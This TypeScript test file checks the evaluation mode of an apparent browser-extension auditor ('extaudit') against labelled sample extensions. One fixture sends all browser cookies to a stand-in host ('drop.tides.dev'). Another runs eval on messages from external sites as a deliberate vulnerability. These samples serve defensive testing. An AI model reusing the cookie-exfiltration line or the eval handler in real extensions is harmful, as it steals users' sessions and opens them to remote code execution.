import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Measurement } from '../evaluate/measurement.ts';
import type { AccuracySummary } from '../evaluate/summarise-accuracy.ts';
import { writeTestExtension } from '../evaluate/test-extension.ts';
import { runBinary } from '../run-binary.ts';

const storePackage = join(
  dirname(fileURLToPath(import.meta.resolve('@tomjs/electron-devtools-files/package.json'))),
  'extensions/kmcfjchnmmaeeagadbhoofajiopoceel.crx',
);

/** One entry of each outcome, a vulnerable one and its safe twin. */
const entries = [
  { id: 'tide-table', label: 'benign', tier: 'store_grade' },
  { id: 'proxy-switch', label: 'benign', tier: 'oss_popular' },
  { id: 'torn', label: 'benign', tier: 'sample' },
  { id: 'cookie-thief', label: 'malicious', tier: 'poc', family: 'thieves' },
  { id: 'absent', label: 'malicious', tier: 'poc', family: 'thieves' },
  { id: 'tampered', label: 'suspicious', tier: 'header_modifier', file: 'tampered.crx' },
  { id: 'open', label: 'suspicious', tier: 'vulnerable_demo', what: 'demo: vuln07_open' },
  { id: 'closed', label: 'suspicious', tier: 'vulnerable_demo', what: 'demo: non_vuln07_closed' },
];

describe('extaudit evaluate', () => {
  let folder = '';
  let index = '';
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'extaudit-evaluate-'));
    await writeTestExtension(folder, 'tide-table', {}, 'console.log("high water");');
    await writeTestExtension(
      folder,
      'proxy-switch',
      { permissions: ['proxy'] },
      'console.log("idle");',
    );
    await writeTestExtension(folder, 'torn', {}, 'const = ;');
    await writeTestExtension(
      folder,
      'cookie-thief',
      { permissions: ['cookies'], host_permissions: ['<all_urls>'] },
      'chrome.cookies.getAll({}, (all) => fetch("https://drop.tides.dev/in", { method: "POST", body: JSON.stringify(all) }));',
    );
    await writeTestExtension(
      folder,
      'open',
      { permissions: ['history'], externally_connectable: { matches: ['*://*.tides.dev/*'] } },
      'chrome.runtime.onMessageExternal.addListener((asked) => { eval(asked.code); });',
    );
    await writeTestExtension(
      folder,
      'closed',
      { permissions: ['history'] },
      'console.log("shut");',
    );
    const bytes = await readFile(storePackage);
    bytes[bytes.length - 5_000]! ^= 1;
    await writeFile(join(folder, 'tampered.crx'), bytes);
    index = join(folder, 'index.json');
    const list = entries.map(({ file, ...entry }) => ({ ...entry, dir: file ?? entry.id }));
    await writeFile(index, JSON.stringify(list));
  });
  after(() => rm(folder, { recursive: true }));

  it('prints one JSON line for each entry, in order, and then the tables', async () => {
    const { code, stdout } = await runBinary(['evaluate', index, '--no-intel']);
    assert.equal(code, 3, 'one entry could not be audited');
    const [lines = '', tables = ''] = stdout.split(/\n\n(?=\d+ entries)/);
    const rows = linesOf(lines);
    assert.deepEqual(
      rows.slice(0, 6).map(({ id, classification }) => `${id} ${classification}`),
      [
        'tide-table clean',
        'proxy-switch clean',
        'torn incomplete',
        'cookie-thief malicious',
        'absent error',
        'tampered suspicious',
      ],
    );
    assert.deepEqual([rows.length, rows[7]?.id], [8, 'closed']);
    assert.match(tables, /^8 entries .* intelligence off$/m);
    assert.match(tables, /^label +tier +n +clean +incomplete +suspicious +malicious +error$/m);
    assert.match(tables, /^malicious +poc +2 +· +· +· +1 +1$/m);
    assert.match(tables, /^thieves +2 +· +· +· +1 +1$/m);
    assert.match(
      tables,
      /^recall +all +1 of 2 +50\.0 % +9\.5–90\.5 +1 of 2 +50\.0 % +9\.5–90\.5$/m,
    );
    assert.match(
      tables,
      /^false positives +all real +0 of 2 +0\.0 % +0\.0–65\.8 +1 of 2 +50\.0 % +9\.5–90\.5$/m,
    );
    // The thief ranks above both benign ones, and the one without a report below both.
    assert.match(tables, /^malicious +n +benign +AUC\npoc +2 +2 +0\.500\nall +2 +2 +0\.500$/m);
    assert.match(tables, /^proxy-permission +1 +·$/m);
    assert.match(tables, /memory of a process: at most \d+ MB/);
  });

  it('tells of each entry what was found, and of those that show a vulnerability whether it was', async () => {
    const output = join(folder, 'entries.jsonl');
    const run = ['evaluate', index, '--no-intel', '--output', output, '--processes', '1'];
    const { stdout } = await runBinary(run);
    assert.ok(!stdout.includes('{"id"'), 'only tables are left for standard output');
    assert.match(
      stdout,
      /^vulnerable +1 of 1 +100\.0 % +20\.7–100\.0\nsafe twins +0 of 1 +0\.0 % +0\.0–79\.3$/m,
    );
    const rows = new Map(linesOf(await readFile(output, 'utf8')).map((row) => [row.id, row]));
    const thief = rows.get('cookie-thief');
    assert.ok(thief && thief.score && thief.score > 50 && thief.seconds > 0);
    assert.ok(thief.rules.includes('cookies-sent'));
    assert.ok(thief.flows.some(({ source, sink }) => source === 'cookies' && sink === 'network'));
    assert.equal(thief.baseline, true, 'cookies together with all sites');
    assert.deepEqual(rows.get('open')?.exposure, { expected: true, found: true });
    assert.deepEqual(rows.get('closed')?.exposure, { expected: false, found: false });
    assert.equal(rows.get('tide-table')?.exposure, undefined);
    assert.match(rows.get('absent')?.error?.message ?? '', /there is no folder or file .*absent/);
    assert.match(stdout, /^Could not be audited\n\nabsent: there is no folder/m);
  });

  it('gives one JSON document with --format json', async () => {
    const { stdout } = await runBinary(['evaluate', index, '--no-intel', '--format', 'json']);
    const { schema_version, tool, entries, summary } = JSON.parse(stdout) as {
      schema_version: number;
      tool: { intel_hash: string };
      entries: Measurement[];
      summary: AccuracySummary;
    };
    assert.deepEqual([schema_version, tool.intel_hash, entries.length], [1, 'none', 8]);
    const interval = { low: 0.094531, high: 0.905469 };
    assert.deepEqual(summary.recall[0]?.extaudit, { count: 1, of: 2, interval });
    assert.deepEqual(summary.rankings[1], { what: 'all', malicious: 2, benign: 2, auc: 0.5 });
    const alarm = summary.false_alarms.find(({ rule }) => rule === 'proxy-permission');
    assert.deepEqual(alarm, { rule: 'proxy-permission', fires: 1, flagged: 0 });
    const thief = entries.find(({ id }) => id === 'cookie-thief');
    assert.ok(thief?.order !== undefined && thief.order >= (thief.score ?? Infinity));
    assert.deepEqual(summary.vulnerabilities.missed, []);
    const levels = summary.groups.find(({ tier }) => tier === 'store_grade')?.levels;
    assert.deepEqual(levels, { low: 1, medium: 0, high: 0, critical: 0 });
  });

  describe('--fold', () => {
    const folded = [
      { id: 'calm', label: 'benign', tier: 'oss_real', fold: 1, dir: 'tide-table' },
      { id: 'thief', label: 'malicious', tier: 'poc', fold: 2, sends: true, dir: 'cookie-thief' },
      { id: 'mute', label: 'malicious', tier: 'poc', fold: 2, sends: false, dir: 'closed' },
      { id: 'bait', label: 'malicious', tier: 'poc', fold: 2, measurable: false, dir: 'absent' },
      { id: 'kept-apart', label: 'malicious', tier: 'poc', fold: 3, dir: 'absent' },
      { id: 'without', label: 'benign', tier: 'oss_real', dir: 'absent' },
    ];
    let list = '';
    before(async () => {
      list = join(folder, 'folded.json');
      await writeFile(list, JSON.stringify(folded));
    });

    it('measures the entries of these folds alone, without those that are not measurable', async () => {
      const output = join(folder, 'folded.jsonl');
      const run = ['evaluate', list, '--no-intel', '--output', output, '--fold', '2', '--fold=1'];
      const { code, stdout, stderr } = await runBinary(run);
      assert.equal(code, 0, stderr);
      const rows = linesOf(await readFile(output, 'utf8'));
      assert.deepEqual(
        rows.map(({ id, fold, sends }) => [id, fold, sends]),
        [
          ['calm', 1, undefined],
          ['thief', 2, true],
          ['mute', 2, false],
        ],
      );
      assert.match(stderr, /left out 1 of the list that it marks as not measurable/);
      assert.match(stdout, /^recall +all that send something +1 of 1 /m);
      assert.match(stdout, /^all that send something +1 +1 +1\.000$/m);
    });

    it('takes a list with commas', async () => {
      const { stdout } = await runBinary(['evaluate', list, '--no-intel', '--fold', '1,2']);
      assert.match(stdout, /^3 entries /m);
    });

    const wrong: readonly [string, unknown[], string, RegExp][] = [
      ['the list has no folds', [{ ...folded[0], fold: undefined }], '1', /has no folds/],
      ['one of them is empty', folded, '1,7', /no entry in fold 7; its folds are 1, 2, 3\./],
      ['none is measurable', folded.slice(3, 4), '2', /marks all entries .* not measurable/],
      ['a fold is no number', [{ ...folded[0], fold: 'one' }], '1', /entry 1 says fold: "one"/],
      ['a mark is no mark', [{ ...folded[0], sends: 'no' }], '1', /entry 1 says sends: "no"/],
      ['it is no number', folded, 'x', /--fold .*whole numbers from 1 on, such as 2 or 1,2/],
    ];
    for (const [what, entriesOf, folds, message] of wrong) {
      it(`fails with a clear message when ${what}`, async () => {
        const file = join(folder, 'wrong.json');
        await writeFile(file, JSON.stringify(entriesOf));
        const { code, stdout, stderr } = await runBinary(['evaluate', file, '--fold', folds]);
        assert.ok(code !== 0 && code !== 3);
        assert.equal(stdout, '');
        assert.match(stderr, message);
        assert.doesNotMatch(stderr, /\n +at /, 'no stack trace');
      });
    }
  });

  it('counts for each rule how often it fired, by label and tier', async () => {
    const file = join(folder, 'statistics.json');
    await runBinary(['evaluate', index, '--no-intel', '--rule-statistics', file]);
    const { entries, rules } = JSON.parse(await readFile(file, 'utf8')) as {
      entries: Record<string, number>;
      rules: Record<string, Record<string, number>>;
    };
    assert.equal(entries['malicious/poc'], 1, 'without the one that could not be audited');
    assert.deepEqual(rules['cookies-sent'], { 'malicious/poc': 1 });
    assert.deepEqual(rules['proxy-permission'], { 'benign/oss_popular': 1 });
    assert.deepEqual(rules['crypto-mining'], {}, 'rules that never fired are there as well');
  });

  const bad: readonly [string, string | undefined, RegExp][] = [
    ['is not there', undefined, /index\.json cannot be read: there is no such file or folder$/m],
    ['is no JSON', '[{', /index\.json is no JSON/],
    ['is no list', '{"id":"x"}', /must hold an array/],
    ['is empty', '[]', /lists no extension/],
    ['lacks a label', '[{"id":"a","dir":"a"}]', /entry 1 has no label/],
    ['has an entry that is no object', '[7]', /entry 1 has no id/],
    [
      'names one id twice',
      JSON.stringify([1, 2].map(() => ({ id: 'a', label: 'benign', dir: 'a' }))),
      /lists "a" twice/,
    ],
  ];
  for (const [what, text, message] of bad) {
    it(`1 with a clear message when the list ${what}`, async () => {
      const place = await mkdtemp(join(folder, 'bad-'));
      if (text !== undefined) await writeFile(join(place, 'index.json'), text);
      const { code, stdout, stderr } = await runBinary(['evaluate', join(place, 'index.json')]);
      assert.deepEqual([code, stdout], [1, '']);
      assert.match(stderr, message);
      assert.doesNotMatch(stderr, /\n +at /, 'no stack trace');
    });
  }

  it('says which labels are in no rate, and counts benign entries without a report in none', async () => {
    const list = [
      { id: 'misspelt', label: 'beningn', tier: 'store_grade', dir: 'tide-table' },
      { id: 'calm', label: 'benign', tier: 'store_grade', dir: 'tide-table' },
      { id: 'gone', label: 'benign', tier: 'store_grade', dir: 'absent' },
    ];
    const file = join(folder, 'labels.json');
    await writeFile(file, JSON.stringify(list));
    const { stdout, stderr } = await runBinary(['evaluate', file, '--no-intel']);
    assert.match(stderr, /the label "beningn" is none of benign, malicious and suspicious/);
    assert.match(stdout, /^false positives +store_grade +0 of 1 /m);
  });

  it('leaves an earlier result as it was until there is a new one', async () => {
    const output = join(folder, 'earlier.jsonl');
    await writeFile(output, 'kept\n');
    const run = ['evaluate', index, '--output', output];
    const { code, stderr } = await runBinary([...run, '--rule-statistics', folder]);
    assert.equal(code, 1);
    assert.match(stderr, /--rule-statistics .* cannot be written/);
    assert.equal(await readFile(output, 'utf8'), 'kept\n');
  });

  it('1 before any audit when the output cannot be written', async () => {
    const run = ['evaluate', index, '--output', join(folder, 'no-folder', 'entries.jsonl')];
    const { code, stderr } = await runBinary(run);
    assert.equal(code, 1);
    assert.match(stderr, /--output .* cannot be written/);
  });
});

function linesOf(text: string): Measurement[] {
  return text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Measurement);
}
